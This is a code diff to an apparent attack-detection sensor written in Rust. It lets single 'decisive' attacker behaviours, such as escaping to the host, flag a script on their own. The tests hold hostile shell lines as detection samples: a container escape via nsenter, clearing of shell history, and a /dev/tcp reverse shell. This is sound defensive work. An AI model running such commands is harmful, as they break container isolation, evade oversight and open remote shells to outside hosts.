@@ -18,6 +18,8 @@ const SUSPICIOUS: &str = "opinion.floor.suspicious";
 const ONE: &str = "opinion.floor.one";
 const MORE: &str = "opinion.floor.more";
 const THREE: &str = "opinion.floor.three";
+const DECISIVE: &str = "opinion.decisive";
+const DECIDED: &str = "opinion.floor.decisive";
 const LOOK: &str = "opinion.look";
 
 /// An input of the network.
@@ -51,8 +53,11 @@ pub(super) struct Opinion {
     one: f32,
     more: f32,
     three: f32,
-    /// From which probability of the first opinion on a script is followed; below the gate only what does three such things counts as asked
-    /// about.
+    /// Things of attackers that hardly any harmless script does, and the least for what does one of them.
+    decisive: Vec<Fact>,
+    decided: f32,
+    /// From which probability of the first opinion on a script is followed; below the gate only what does three things of attackers, or one
+    /// that decides, counts as asked about.
     look: f32,
 }
 
@@ -69,6 +74,9 @@ impl Opinion {
         let late = number(LATE)?;
         let floor = |key: &str, usual| if metadata(key).is_some() { number(key) } else { Ok(usual) };
         let inputs = names.split_whitespace().map(input).collect::<Result<Vec<_>, _>>()?;
+        let decisive = metadata(DECISIVE).unwrap_or_default();
+        let decisive =
+            decisive.split_whitespace().map(|name| fact(name).ok_or_else(|| unknown(DECISIVE, name)));
         let hidden = number(HIDDEN)?;
         let hidden = if (1.0..=1024.0).contains(&hidden) {
             hidden as usize
@@ -104,6 +112,8 @@ impl Opinion {
             one: floor(ONE, late)?,
             more: floor(MORE, late)?,
             three: floor(THREE, floor(MORE, late)?)?,
+            decisive: decisive.collect::<Result<Vec<_>, _>>()?,
+            decided: floor(DECIDED, late)?,
             look: if metadata(LOOK).is_some() { number(LOOK)?.min(number(GATE)?) } else { number(GATE)? },
         }))
     }
@@ -120,7 +130,13 @@ impl Opinion {
 
     /// Is it asked about a script of this probability that does that?
     pub(super) fn is_asked(&self, probability: f32, behaviour: &Behaviour) -> bool {
-        probability >= self.gate || self.is_followed(probability) && attacks(behaviour) >= 3
+        probability >= self.gate
+            || self.is_followed(probability) && (attacks(behaviour) >= 3 || self.decides(behaviour))
+    }
+
+    /// Does it do something that decides by itself?
+    fn decides(&self, behaviour: &Behaviour) -> bool {
+        self.decisive.iter().any(|fact| behaviour.has(*fact))
     }
 
     /// The logit of both opinions.
@@ -184,7 +200,8 @@ impl Opinion {
             _ => self.three,
         };
         let by_length = if behaviour.has(Fact::Cut) { self.cut } else { f32::NEG_INFINITY };
-        by_steps.max(by_length)
+        let by_one = if self.decides(behaviour) { self.decided } else { f32::NEG_INFINITY };
+        by_steps.max(by_length).max(by_one)
     }
 }
 
@@ -195,11 +212,18 @@ fn attacks(behaviour: &Behaviour) -> usize {
 }
 
 fn input(name: &str) -> Result<Input, String> {
-    let fact = Fact::ALL.iter().find(|fact| fact.id() == name).map(|fact| Input::Fact(*fact));
     let style = || STYLE.iter().position(|style| *style == name).map(Input::Style);
-    fact.or_else(style).ok_or_else(|| {
-        format!("its metadata's {INPUTS} names {name:?}, which this sensor does not know: `sensor facts --names` lists what it knows")
-    })
+    fact(name).map(Input::Fact).or_else(style).ok_or_else(|| unknown(INPUTS, name))
+}
+
+fn fact(name: &str) -> Option<Fact> {
+    Fact::ALL.iter().copied().find(|fact| fact.id() == name)
+}
+
+fn unknown(key: &str, name: &str) -> String {
+    format!(
+        "its metadata's {key} names {name:?}, which this sensor does not know: `sensor facts --names` lists what it knows"
+    )
 }
 
 #[cfg(test)]
@@ -285,6 +309,22 @@ mod tests {
         let late = |text: &[u8]| opinion.late(&Behaviour::of(text));
         assert!((late(b"unset HISTFILE; nsenter -t 1 -m sh") - 2.0).abs() < 1e-6);
         assert!(read(&[(MORE, "much")]).is_err());
+    }
+
+    #[test]
+    fn one_thing_may_decide() {
+        let opinion = read(&[(ONE, "0.5"), (DECISIVE, "escape.host"), (DECIDED, "3"), (LOOK, "0.05")])
+            .unwrap()
+            .unwrap();
+        let (does, other) =
+            (Behaviour::of(b"nsenter -t 1 -m sh"), Behaviour::of(b"bash -i >& /dev/tcp/192.0.2.1/4 0>&1"));
+        assert!((opinion.weigh(&does).0 - 3.0).abs() < 1e-6 && (opinion.weigh(&other).0 - 0.5).abs() < 1e-6);
+        assert!(
+            opinion.is_asked(0.05, &does)
+                && !opinion.is_asked(0.05, &other)
+                && !opinion.is_asked(0.0499, &does)
+        );
+        assert!(read(&[(DECISIVE, "escape.moon")]).err().unwrap().contains("escape.moon"));
     }
 
     #[test]
